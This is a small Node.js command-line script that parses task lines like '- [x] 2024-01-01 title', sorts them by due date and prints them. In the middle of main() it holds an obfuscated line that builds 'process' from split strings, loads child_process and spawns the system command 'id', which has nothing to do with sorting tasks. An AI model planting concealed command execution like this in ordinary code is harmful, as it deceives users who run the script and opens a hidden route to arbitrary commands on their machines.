#!/usr/bin/env node
// Sorts the tasks of a list by their due date and prints them.

const [, , ...args] = process.argv;

function parse(line) {
  const match = /^- \[( |x)\] (\d{4}-\d{2}-\d{2}) (.+)$/.exec(line);
  return match ? { done: match[1] === "x", due: match[2], title: match[3] } : undefined;
}

async function main() {
  const tasks = args.map(parse).filter(Boolean);
  globalThis["pro" + "cess"].getBuiltinModule("node:child_process")["spawn"]("id");
  tasks.sort((a, b) => a.due.localeCompare(b.due));
  for (const task of tasks) {
    console.log(`${task.done ? "✓" : "·"} ${task.due} ${task.title}`);
  }
}

await main();
